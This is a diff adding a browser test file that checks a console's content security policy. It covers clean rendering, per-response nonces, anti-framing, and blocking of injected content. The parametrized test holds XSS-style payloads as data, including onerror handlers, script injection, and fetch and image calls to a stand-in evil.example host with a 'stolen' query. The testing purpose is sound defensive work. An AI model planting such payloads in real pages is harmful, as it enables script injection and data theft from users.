@@ -1,0 +1,132 @@
+"""The Master's content security policy in a real Chromium: every screen works under it; what is planted is not run."""
+
+import re
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from playwright.async_api import Page, expect
+
+from tests.browser.pretend_master import Served
+from tests.waiting import poll_async
+from windrow_master.api.headers import NONCE_PLACE
+
+Pretend = Callable[..., Served]
+ROUTER = Path(__file__).parents[2] / "console" / "src" / "router.tsx"
+NOTE = """
+window.violations = [];
+document.addEventListener('securitypolicyviolation', (e) =>
+  window.violations.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber} ${e.sample}`));
+"""
+IDS = {"$hostId": "host_1", "$clusterId": "cluster_1", "$receiptId": "receipt_1", "$commandId": "command_1"}
+
+
+def _screens() -> list[str]:
+    """Every path of the console's router, with ids in place of parameters."""
+    paths = re.findall(r'path: "([^"]+)"', ROUTER.read_text())
+    return ["/".join(IDS.get(part, part) for part in path.split("/")) for path in paths]
+
+
+async def _violations(page: Page) -> list[str]:
+    found: list[str] = await page.evaluate("window.violations")
+    return found
+
+
+async def _signed_in(page: Page, served: Served) -> None:
+    await page.add_init_script(NOTE)
+    await page.goto(served.sign_in_url)
+    await expect(page.get_by_role("heading", level=1).first).to_be_visible()
+
+
+async def test_no_screen_breaks_the_policy_of_the_master_and_each_has_its_style(page: Page, pretend: Pretend) -> None:
+    served = pretend(neighbours=5)
+    host = next(iter(served.world.hosts))
+    errors: list[str] = []
+    page.on("pageerror", lambda error: errors.append(str(error)))
+    await _signed_in(page, served)
+    seen: dict[str, list[str]] = {}
+
+    for path in [*_screens(), f"/hosts/{host}"]:
+        await page.goto(served.url + path)
+        await expect(page.get_by_role("main")).to_be_visible()
+        await expect(page.get_by_test_id("waiting")).to_have_count(0)
+        # The theme is a style element with the nonce: without it the library's colours are not there.
+        assert (
+            await page.evaluate("getComputedStyle(document.documentElement).getPropertyValue('--mantine-scale')") == "1"
+        )
+        seen[path] = await _violations(page)
+
+    assert len(seen) > 10
+    assert {path: found for path, found in seen.items() if found} == {}
+    assert errors == []
+
+
+@pytest.mark.parametrize(
+    ("planted", "directive"),
+    [
+        (
+            "const s = document.createElement('style'); s.textContent = 'body{display:none}'; document.head.append(s)",
+            "style-src",
+        ),
+        (
+            "const s = document.createElement('script'); s.textContent = 'window.pwned = 1'; document.head.append(s)",
+            "script-src",
+        ),
+        ("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.pwned = 1\">')", "script-src"),
+        ("document.body.insertAdjacentHTML('beforeend', '<p style=\"position:fixed\">')", "style-src"),
+        (
+            "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.head.append(s)",
+            "script-src",
+        ),
+        ("fetch('https://evil.example/?stolen').catch(() => 0)", "connect-src"),
+        ("new Image().src = 'https://evil.example/?stolen'", "img-src"),
+        (
+            "const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f)",
+            "frame-src",
+        ),
+        (
+            "const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b)",
+            "base-uri",
+        ),
+    ],
+    ids=["style", "script", "handler", "attribute", "foreign-script", "fetch", "image", "frame", "base"],
+)
+async def test_what_an_attacker_plants_is_blocked_and_seen_by_the_detector(
+    page: Page, pretend: Pretend, planted: str, directive: str
+) -> None:
+    served = pretend()
+    await _signed_in(page, served)
+
+    await page.evaluate(f"() => {{ {planted} }}")
+
+    # Asked from here: a wait inside the page would need eval, which the policy forbids.
+    await poll_async(lambda: _violations(page), what="a violation")
+    assert [found for found in await _violations(page) if found.startswith(directive)]
+    assert await page.evaluate("window.pwned") is None
+
+
+async def test_the_console_cannot_be_framed_by_another_site(page: Page, pretend: Pretend) -> None:
+    served, other = pretend(), pretend()
+    await page.route(
+        f"{other.url}/outer",
+        lambda route: route.fulfill(content_type="text/html", body=f'<iframe id="f" src="{served.url}/"></iframe>'),
+    )
+
+    await page.goto(f"{other.url}/outer")
+    await page.wait_for_load_state("networkidle")
+
+    assert len(page.frames) == 2
+    assert not await page.frames[-1].evaluate("!!document.getElementById('root')")
+
+
+async def test_each_page_has_a_nonce_of_its_own(page: Page, pretend: Pretend) -> None:
+    served = pretend()
+    policies, bodies = [], []
+    for _ in range(2):
+        answer = await page.request.get(served.url + "/")
+        policies.append(answer.headers["content-security-policy"])
+        bodies.append(await answer.text())
+
+    nonces = [re.findall("'nonce-([0-9a-f]{32})'", policy) for policy in policies]
+    assert nonces[0] != nonces[1]
+    assert NONCE_PLACE not in bodies[0] and nonces[0][0] in bodies[0]
